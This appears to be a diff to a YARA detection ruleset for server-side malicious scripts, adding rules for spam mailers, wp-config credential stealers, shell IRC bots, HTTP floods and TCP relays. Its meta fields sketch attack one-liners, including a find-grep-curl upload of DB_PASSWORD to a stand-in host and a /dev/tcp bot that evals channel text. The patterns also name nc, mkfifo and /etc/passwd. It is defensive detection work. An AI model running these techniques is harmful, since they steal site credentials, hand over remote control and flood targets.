@@ -698,6 +698,8 @@ rule bot_smtp_spam_loop_script : bot mailer
         $w6 = /\b(mail|mailx|mutt)\s{1,4}-s\s/
         $w7 = /\bswaks\s[^\n]{0,80}--to\b/
         $w8 = /Net::SMTP(::SSL|::TLS)?\s{0,4}->\s{0,2}new\b/
+        // three-argument pipe open (round 6): open(my $sm, '|-', '/usr/sbin/sendmail -t')
+        $w9 = /\bopen\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,30}\s{0,4},\s{0,4}["']\|-["']\s{0,4},\s{0,4}["'][\w\/]{0,30}sendmail/
         // or an SMTP transaction step by step: sender, then recipient
         $mf = /->\s{0,2}mail\s{0,2}\(|[(,\[=]\s{0,4}[bf]?["']MAIL FROM|\bprint\s{1,4}\{?\s{0,2}\$\w{1,30}\s{0,2}\}?\s{1,4}["']MAIL FROM|\b(send|sendall|write|syswrite|puts|print)\s{0,2}\(\s{0,2}(\$?[\w.]{1,30}\s{0,2},\s{0,2})?b?["']MAIL FROM|\b(echo|printf)\s{1,4}(-e\s{1,4})?["']MAIL FROM|\\r?\\nMAIL FROM/ nocase
         $rt = /->\s{0,2}(to|recipient)\s{0,2}\(|RCPT TO/
@@ -743,6 +745,9 @@ rule bot_smtp_spam_loop_script : bot mailer
         $k7 = /Content-Type:\s{0,2}text\/html/ nocase
         $k8 = /X-Mailer/ nocase
         $k14 = /MIMEText\s{0,2}\([^\n]{0,300}['"]html['"]|subtype\s{0,2}=\s{0,2}['"]html['"]/
+        // MIME::Lite / Mail::Sendmail hashes (round 6): the subject and an HTML body as named arguments
+        $k16 = "Subject => $" ascii
+        $k17 = /Type\s{0,2}=>\s{0,2}['"]text\/html/
         // Perl documentation (POD) and the text after __END__ are not run: usage
         // examples there ("for E in `cat list`; do swaks --to $E") do not count
         $pod = /\n=(head[1-4]|pod|begin|over|item|encoding|for)\b|\n__(END|DATA)__\s/
@@ -1749,7 +1754,7 @@ rule bot_script_list_mailer : bot mailer
         $slurp3 = /= `cat\s/
         $slurp4 = /split\s{0,2}\(\s{0,2}\/\\r?\\n\//
         // (keyed on what follows "in": a regex that starts at "for" is tried at every for)
-        $lp3 = /\sin\s{1,4}(open\s{0,2}\(|enumerate\s{0,2}\(\s{0,2}(f|fh|fp|lst|lines|open)\b|[a-z_]\w{0,30}\.readlines\s{0,2}\(|[a-z_]\w{0,30}\.read\(\)\.split)/
+        $lp3 = /\sin\s{1,4}(open\s{0,2}\(|csv\.reader\s{0,2}\(|sys\.stdin\b|fileinput\.input\s{0,2}\(|enumerate\s{0,2}\(\s{0,2}(f|fh|fp|lst|lines|open)\b|[a-z_]\w{0,30}\.readlines\s{0,2}\(|[a-z_]\w{0,30}\.read\(\)\.split)/
         $lp4 = /\bwhile\s{1,4}(IFS=\S{0,4}\s{1,4})?read\s{1,4}(-r\s{1,4})?[a-z_]\w{0,30}\s{0,2}(;|\n)/
         $lp5 = /\sin\s{1,4}(\$\(\s{0,2}cat\s|`cat\s)/
         // the list is a file
@@ -1757,6 +1762,10 @@ rule bot_script_list_mailer : bot mailer
         $f2 = /\bopen\s{0,2}\(\s{0,2}(sys\.argv\s{0,2}\[|[a-z_]\w{0,30}\s{0,2}[,)]|['"][^'"\n]{1,60}\.(txt|lst|list|csv|dat)['"])/
         $f3 = /\bdone\s{0,2}<\s{0,2}["'$\w.\/{]/
         $f4 = /(\$\(\s{0,2}cat\s|`cat\s)/
+        // (round 6) cat list | while read, and Python's stdin
+        $f5 = /\bcat\s{1,4}["']?[\w.\/${}-]{1,60}["']?\s{0,2}\|\s{0,2}while\s/
+        $f6 = /\bsys\.stdin\b/
+        $f7 = "<STDIN>" ascii
         // a whole message sent to the entry
         // literals: a regex on "To =>" is keyed on "=>", in every PHP array
         $s1a = "To => $" ascii
@@ -1766,6 +1775,13 @@ rule bot_script_list_mailer : bot mailer
         $s2a = "->to($" ascii
         $s2b = "->to(\"$" ascii
         $s2c = "->recipient($" ascii
+        // (round 6) a header naming the entry, printed into a sendmail pipe
+        $s2d = "\"To: $" ascii
+        $s6 = /\bopen\s{0,2}\([^)\n]{0,60}\|[^)\n]{0,30}sendmail/
+        // shell: a message with To: from the entry piped into sendmail -t; swaks --to "$x"
+        $s8 = /\|\s{0,4}(\/usr\/s?bin\/|\/usr\/lib\/)?sendmail\s{1,4}(-[a-zA-Z]{1,3}\s{1,4}){0,3}-t\b/
+        $s9 = /To: ?(%s|\$\{?[a-z_])/
+        $s10 = /\bswaks\s[^\n]{0,80}--to\s{1,4}["']?\$\{?[a-z_]/
         $s3 = /\.(sendmail|send_message)\s{0,2}\(\s{0,2}[^,()\n]{1,60},\s{0,2}\[?\s{0,2}[a-z_]\w{0,30}(\.strip\(\))?\s{0,2}\]?\s{0,2}[,)]/
         $s4 = /\[\s{0,2}['"]To['"]\s{0,2}\]\s{0,2}=\s{0,2}[a-z_]\w{0,30}(\.strip\(\))?\s{0,2}\n/
         // options, then the recipient last: fails fast at the word "mail" in prose
@@ -1777,14 +1793,16 @@ rule bot_script_list_mailer : bot mailer
         filesize < 1MB and not hs_doc_file and (hs_lang_perl or hs_lang_python or hs_lang_shell) and
         any of ($f*) and (
             for any i in (1..#lp1) : ( $s5 in (@lp1[i] .. @lp1[i] + 800) or
-                (for any of ($s1*, $s2*) : ( $ in (@lp1[i] .. @lp1[i] + 800) ) and $e in (@lp1[i] .. @lp1[i] + 1200)) ) or
+                (for any of ($s1*, $s2*) : ( $ in (@lp1[i] .. @lp1[i] + 800) ) and ($e in (@lp1[i] .. @lp1[i] + 1200) or $s6 in (@lp1[i] .. @lp1[i] + 1200))) ) or
             for any i in (1..#lp2) : ( $s5 in (@lp2[i] .. @lp2[i] + 800) or
-                (for any of ($s1*, $s2*) : ( $ in (@lp2[i] .. @lp2[i] + 800) ) and $e in (@lp2[i] .. @lp2[i] + 1200)) ) or
+                (for any of ($s1*, $s2*) : ( $ in (@lp2[i] .. @lp2[i] + 800) ) and ($e in (@lp2[i] .. @lp2[i] + 1200) or $s6 in (@lp2[i] .. @lp2[i] + 1200))) ) or
             (any of ($slurp*) and for any i in (1..#lp2a) : ( $s5 in (@lp2a[i] .. @lp2a[i] + 800) or
-                (for any of ($s1*, $s2*) : ( $ in (@lp2a[i] .. @lp2a[i] + 800) ) and $e in (@lp2a[i] .. @lp2a[i] + 1200)) )) or
+                (for any of ($s1*, $s2*) : ( $ in (@lp2a[i] .. @lp2a[i] + 800) ) and ($e in (@lp2a[i] .. @lp2a[i] + 1200) or $s6 in (@lp2a[i] .. @lp2a[i] + 1200))) )) or
             for any i in (1..#lp3) : ( for any of ($s3, $s4) : ( $ in (@lp3[i] .. @lp3[i] + 1200) ) and $s7 ) or
-            for any i in (1..#lp4) : ( $s5 in (@lp4[i] .. @lp4[i] + 600) ) or
-            for any i in (1..#lp5) : ( $s5 in (@lp5[i] .. @lp5[i] + 600) )
+            for any i in (1..#lp4) : ( $s5 in (@lp4[i] .. @lp4[i] + 600) or $s10 in (@lp4[i] .. @lp4[i] + 600) or
+                ($s8 in (@lp4[i] .. @lp4[i] + 600) and $s9 in (@lp4[i] .. @lp4[i] + 600)) ) or
+            for any i in (1..#lp5) : ( $s5 in (@lp5[i] .. @lp5[i] + 600) or $s10 in (@lp5[i] .. @lp5[i] + 600) or
+                ($s8 in (@lp5[i] .. @lp5[i] + 600) and $s9 in (@lp5[i] .. @lp5[i] + 600)) )
         )
 }
 
@@ -1828,4 +1846,148 @@ rule bot_irc_vuln_scanner : bot hacktool
         filesize < 2MB and not hs_doc_file and hs_raw_transport and $nick and $pm and
         not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d) and
         (any of ($a*) or (2 of ($p*) and any of ($s*)))
+}
+
+/* ---- round 6 (branch mail5, "none"): written from the technique list of
+ * docs/script-rules.md "Round 6", tuned on tests/eval/mailgen.py. */
+
+/* A config stealer: the sites' configuration files searched across the
+ * accounts (a glob over /home/*, find -name wp-config.php, a directory
+ * iterator from /home), their database passwords pulled out, and the lot
+ * sent away: mailed to a fixed outside address, posted or uploaded to a URL,
+ * or sent to a Telegram bot. A backup script reads its own site's config for
+ * mysqldump and mails root that it is done. */
+rule bot_config_credential_exfil : bot
+{
+    meta:
+        description = "Config stealer: sites' wp-config.php/.env/configuration.php searched across accounts, the database passwords pulled out and sent away"
+        severity = "high"
+        technique = "for f in $(find /home -name wp-config.php); do grep DB_PASSWORD \"$f\"; done > /tmp/.c; curl -F f=@/tmp/.c http://x/up.php  |  glob('/home/*/public_html/wp-config.php') + preg_match DB_PASSWORD + mail('x@y', ...)"
+        seen = "none"
+    strings:
+        $g1 = /\/home\d?\/\*\/[^\s'"]{0,40}(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
+        $g2 = /\bfind\s{1,4}[^\n|;]{0,80}-i?name\s{1,4}['"]?(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
+        $g3 = /RecursiveDirectoryIterator\s{0,4}\(\s{0,4}['"]\/(home|var\/www)/
+        // a loop over the accounts, or the server's account lists, then the config's name
+        $g4 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}\/(home\d?|var\/www)\/\*/
+        $g5 = /\/etc\/(passwd|userdomains|trueuserdomains|localdomains)\b/
+        $gw = "wp-config.php" ascii
+        $c1 = "DB_PASS" ascii
+        $c2 = "DB_PASSWORD" ascii
+        $c3 = "'password'" ascii
+        $c4 = /DB_\(?[A-Z_|]{0,40}PASS/
+        $x1 = "api.telegram.org" ascii
+        $x2 = /\bmail\s{0,4}\(\s{0,4}['"][^'"\s@]{1,40}@[\w-]{1,40}\.[\w.]{2,20}['"]/
+        $x3 = /\bmail\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,80}"|'[^'\n]{0,80}'|\S{1,80})\s{1,4}){1,4}[\w.+-]{1,40}@[\w-]{1,40}\.[\w.]{2,20}/
+        $x4 = /curl_init\s{0,4}\(\s{0,4}['"]https?:\/\//
+        $x5 = /\bcurl\s[^\n]{0,160}\s(-F|--form|-d|--data[\w-]{0,8}|-T|--upload-file)\s/
+        $x6 = /\bwget\s[^\n]{0,120}--post-(data|file)/
+        $x7 = /file_get_contents\s{0,4}\(\s{0,4}['"]https?:\/\/[^'"\n]{1,120}['"]\s{0,4}\./
+    condition:
+        filesize < 500KB and (not hs_doc_file or hs_script_ext) and
+        ($g1 or $g2 or (any of ($g3, $g4, $g5) and $gw)) and any of ($c*) and any of ($x*)
+}
+
+/* A shell IRC bot: bash's /dev/tcp, ncat/nc/telnet or a fifo as the
+ * connection, the IRC registration and PING answer written by echo/printf,
+ * and what the channel sends run through eval / sh -c of a variable. A
+ * shell notifier posts its line and quits: nothing it reads is run. */
+rule bot_shell_irc_eval : bot
+{
+    meta:
+        description = "Shell IRC bot: /dev/tcp or ncat/fifo connection, IRC registration, and channel text run with eval or sh -c"
+        severity = "high"
+        technique = "exec 3<>/dev/tcp/irc/6667; echo NICK x >&3; while read l <&3; do case $l in *PRIVMSG*'!x '*) eval \"${l#*!x }\" ;; esac; done"
+        seen = "none"
+    strings:
+        $t1 = /\/dev\/tcp\/[^\/\s]{1,80}\/\d{2,5}/
+        $t2 = /\b(ncat|nc|netcat|telnet|openssl\s{1,4}s_client)\s[^\n|;]{0,80}\b\d{2,5}\b/
+        $t3 = "mkfifo" ascii
+        $n = "NICK " ascii
+        $p1 = "PRIVMSG" ascii
+        $p2 = "PONG" ascii
+        $x1 = /\beval\s{1,4}["']?\$\{?[A-Za-z_]/
+        $x2 = /\b(sh|bash|dash|ash)\s{1,4}-c\s{1,4}["']?\$\{?[A-Za-z_]/
+        $x4 = /\$\(\s{0,2}\$\{?[A-Za-z_]\w{0,30}\}?\s{0,2}\)/
+    condition:
+        filesize < 200KB and not hs_doc_file and (hs_lang_shell or hs_shebang) and
+        any of ($t*) and $n and $p1 and $p2 and any of ($x*)
+}
+
+/* An HTTP flood: requests sent as fast as threads (or curl_multi, or forks)
+ * allow, in a loop that runs to a deadline, with a random cache-busting
+ * query so that every request reaches the origin. From a web page with the
+ * target in the request it is a DDoS panel's agent (high); from the command
+ * line it is also what a load test does (bot_http_flood_cli, medium). */
+rule bot_http_flood_request : bot
+{
+    meta:
+        description = "HTTP flood run from a web request: target and duration from the request, curl_multi/fork/threads until a deadline, random cache-buster"
+        severity = "high"
+        technique = "$url = $_GET['u']; $end = time() + $_GET['t']; while (time() < $end) { curl_multi of $url . '?' . mt_rand() x50 }"
+        seen = "none"
+    strings:
+        $d1 = /while\s{0,4}\(\s{0,4}(time|microtime)\s{0,4}\([^)]{0,10}\)\s{0,4}<=?\s{0,4}\$\w{1,30}/
+        $d2 = /while\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4}>=?\s{0,4}(time|microtime)\s{0,4}\(/
+        // a string ending in "?" or "?x=" joined to a random number
+        $r1 = /\?\w{0,12}=?['"]\s{0,4}\.\s{0,4}(mt_rand|rand|uniqid|random_int|microtime)\s{0,4}\(/
+        $c1 = "curl_multi_exec" ascii
+        $c2 = "pcntl_fork" ascii
+        $c3 = /\bfsockopen\s{0,4}\(/
+        $q1 = "$_GET" ascii
+        $q2 = "$_POST" ascii
+        $q3 = "$_REQUEST" ascii
+    condition:
+        filesize < 300KB and not hs_doc_file and any of ($d*) and any of ($r*) and any of ($c*) and any of ($q*)
+}
+
+rule bot_http_flood_cli : bot
+{
+    meta:
+        description = "HTTP flood script: threads hammering a target from argv with random cache-busters until a deadline (a load test looks the same)"
+        severity = "medium"
+        technique = "end = time.time() + secs; def hammer(): while time.time() < end: urlopen(target + '?' + str(random.randint(..))); threads x N"
+        seen = "none"
+    strings:
+        $d1 = /while\s{1,4}time\.time\s{0,2}\(\s{0,2}\)\s{0,4}<\s{0,4}\w{1,30}/
+        $d2 = /while\s{0,4}\(\s{0,4}time\s{0,4}\(\s{0,4}\)?\s{0,4}<=?\s{0,4}\$\w{1,30}/
+        $r1 = /['"]\?['"]\s{0,4}\+\s{0,4}str\s{0,2}\(\s{0,2}random\.(randint|random|getrandbits)\s{0,2}\(/
+        $r2 = /['"]\?['"]\s{0,4}\.\s{0,4}int\s{0,2}\(\s{0,2}rand\s{0,2}\(/
+        $h1 = /urllib\.request\.urlopen|requests\.(get|post|head)\s{0,2}\(|http\.client\.HTTPS?Connection|LWP::UserAgent|HTTP::Tiny/
+        $t1 = "threading.Thread" ascii
+        $t2 = /\bfork\s{0,2}\(/
+        $t3 = "ThreadPoolExecutor" ascii
+        $t4 = "threads->create" ascii
+        $a1 = /\bsys\.argv\s{0,2}\[/
+        $a2 = "$ARGV[" ascii
+    condition:
+        filesize < 200KB and not hs_doc_file and (hs_lang_python or hs_lang_perl or hs_shebang) and
+        any of ($d*) and any of ($r*) and $h1 and any of ($t*) and any of ($a*)
+}
+
+/* A TCP relay: listens, and for every connection opens one to a fixed far
+ * end and copies bytes both ways (select or two threads). Dropped in /tmp
+ * it carries a spammer's or an attacker's traffic through the host. Medium:
+ * port forwarders are also admin tools. */
+rule bot_tcp_relay_script : bot
+{
+    meta:
+        description = "TCP relay script: accepts connections and forwards each to a fixed far end (a proxy hop through the host)"
+        severity = "medium"
+        technique = "srv.bind(LISTEN); srv.listen(); c = srv.accept(); f = socket.create_connection(FAR); select loop copying recv() of one into sendall() of the other"
+        seen = "none"
+    strings:
+        $l1 = /\.bind\s{0,2}\(/
+        $l2 = /\.listen\s{0,2}\(/
+        $a = /\.accept\s{0,2}\(\s{0,2}\)/
+        $o1 = /socket\.create_connection\s{0,2}\(/
+        $o2 = /\.connect\s{0,2}\(\s{0,2}\(?\s{0,2}['"]?\w/
+        $s1 = /select\.select\s{0,2}\(/
+        $s2 = /threading\.Thread\s{0,2}\(\s{0,2}target\s{0,2}=\s{0,2}\w{1,30}\s{0,2},\s{0,2}args\s{0,2}=\s{0,2}\(\s{0,2}\w{1,30}\s{0,2},\s{0,2}\w{1,30}/
+        $c = /\.sendall\s{0,2}\(\s{0,2}\w{1,30}\s{0,2}\)/
+        $d = /\.recv\s{0,2}\(\s{0,2}\d{3,6}\s{0,2}\)/
+        $h1 = /\bos\.setsid\s{0,2}\(|\bnohup\b|\bdaemon\s{0,2}\(|\/tmp\/|\/dev\/shm\//
+    condition:
+        filesize < 100KB and not hs_doc_file and hs_lang_python and all of ($l*) and $a and any of ($o*) and
+        any of ($s*) and $c and $d and $h1
 }
